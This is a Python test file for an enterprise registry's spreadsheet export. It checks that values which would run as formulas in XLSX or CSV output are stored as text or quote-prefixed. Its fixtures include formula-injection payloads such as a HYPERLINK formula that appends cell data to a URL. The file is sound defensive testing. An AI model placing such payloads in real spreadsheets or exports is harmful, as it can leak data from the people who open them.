"""Exports that cannot run code: text that a spreadsheet would run as a formula is written as text.

Names typed by a broker ("=HYPERLINK(…)", "+1", "-1+2", "@SUM(A1)") go through the real export
path (the list's export form, at once and built by a real worker) and are read back with openpyxl
as strings, and from the CSV with their `'` prefix; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from core.db import write_transaction
from core.spreadsheets import csv_row, csv_text, may_run_as_formula, xlsx_row
from enterprises import exporting, records
from enterprises.imports.template import SPEC
from enterprises.imports.template_builder import template_workbook
from enterprises.intake import clean_enterprise
from tests.conftest import DISTRICT_A, Client, Personas, run_worker_until_idle
from tests.enterprises.exports.listing import ask_export, export_id_of, lower_inline_limit

FORMULAS = ['=HYPERLINK("http://x"&A1,"click")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
TYPED = FORMULAS[:4]  # what a form keeps: its whitespace is normalised away before it is stored


@pytest.mark.pure
@pytest.mark.parametrize(
    ("value", "risky"),
    [
        *[(formula, True) for formula in FORMULAS],
        ("-", True),
        ("开州区春华柑橘家庭农场", False),
        ("a=1", False),
        (" =1", False),  # a leading space: Excel reads text
        ("", False),
        (-5, False),  # a negative number is a number
        (3.5, False),
        (None, False),
    ],
)
def test_it_knows_which_values_would_run_as_a_formula(value: Any, risky: bool) -> None:
    assert may_run_as_formula(value) is risky
    assert csv_text(value) == ("'" + value if risky else value)


@pytest.mark.pure
@pytest.mark.parametrize("write_only", [True, False])
def test_it_writes_formula_text_as_text_cells_and_numbers_as_numbers(write_only: bool) -> None:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x")
    sheet.append(xlsx_row(sheet, [*FORMULAS, -1, 2.5, "plain"]))
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["x"].iter_rows())

    # XML turns a carriage return into a line feed; the cell is text either way.
    assert [(c.value, c.data_type) for c in cells[: len(FORMULAS)]] == [(f.replace("\r", "\n"), "s") for f in FORMULAS]
    assert all(cell.quotePrefix for cell in cells[: len(FORMULAS)])
    assert [(c.value, c.data_type) for c in cells[len(FORMULAS) :]] == [(-1, "n"), (2.5, "n"), ("plain", "s")]
    assert csv_row([*FORMULAS, -1]) == [*("'" + f for f in FORMULAS), -1]


@pytest.mark.pure
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_it_escapes_every_formula_in_the_export_writers(file_format: str) -> None:
    rows = [
        {"id": i + 1, "name": formula, "town": formula, "founder_name": formula} for i, formula in enumerate(FORMULAS)
    ]

    content = exporting.to_file(file_format, rows, lambda text: text)

    for (number, name, town, founder), formula in zip(_exported(file_format, content), FORMULAS, strict=True):
        assert isinstance(number, int) or number.isdigit()
        assert name == town == founder == _as_exported(file_format, formula)


@pytest.mark.pure
def test_it_keeps_the_import_template_free_of_formulas() -> None:
    book = load_workbook(io.BytesIO(template_workbook(SPEC)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def _as_exported(file_format: str, formula: str) -> str:
    return "'" + formula if file_format == "csv" else formula.replace("\r", "\n")


def _exported(file_format: str, content: bytes) -> list[tuple[Any, ...]]:
    """(No., name, town, founder) of each data row, XLSX cells checked to be text."""
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1:]
        return [(row[0], row[1], row[5], row[10]) for row in rows]
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    found = []
    for row in list(sheet.iter_rows())[1:]:
        for cell in (row[1], row[5], row[10]):
            assert cell.data_type == "s", (cell.value, cell.data_type)
        found.append((row[0].value, row[1].value, row[5].value, row[10].value))
    return found


async def _register_formula_names(user_id: int) -> None:
    drafts = [
        clean_enterprise(
            {
                "name": formula,
                "legal_form": "family_farm",
                "district": DISTRICT_A,
                "town": formula,
                "founder_name": formula,
                "founder_phone": f"1390154{i:04d}",
            },
            None,
            records.today(),
        )
        for i, formula in enumerate(TYPED)
    ]
    async with write_transaction():
        await records.create_enterprises(drafts, user_id)


def _names(file_format: str, content: bytes) -> list[tuple[str, str, str]]:
    return sorted((name, town, founder) for _, name, town, founder in _exported(file_format, content))


@pytest.mark.anyio
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
async def test_it_exports_typed_formulas_as_text_at_once(client: Client, personas: Personas, file_format: str) -> None:
    await _register_formula_names(personas.ids["alice"])
    await client.login("alice")

    response = await ask_export(client, file_format)

    assert response.status_code == 200, response.text[:300]
    expected = sorted((_as_exported(file_format, f),) * 3 for f in TYPED)
    assert _names(file_format, response.content) == expected


@pytest.mark.anyio
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
async def test_it_exports_typed_formulas_as_text_from_the_worker(
    client: Client, personas: Personas, monkeypatch: pytest.MonkeyPatch, file_format: str
) -> None:
    await _register_formula_names(personas.ids["alice"])
    lower_inline_limit(monkeypatch, rows=1)
    await client.login("alice")
    export_id = export_id_of(await ask_export(client, file_format))

    run_worker_until_idle()

    download = await client.http.get(f"/enterprises/exports/{export_id}/download")
    assert download.status_code == 200
    expected = sorted((_as_exported(file_format, f),) * 3 for f in TYPED)
    assert _names(file_format, download.content) == expected
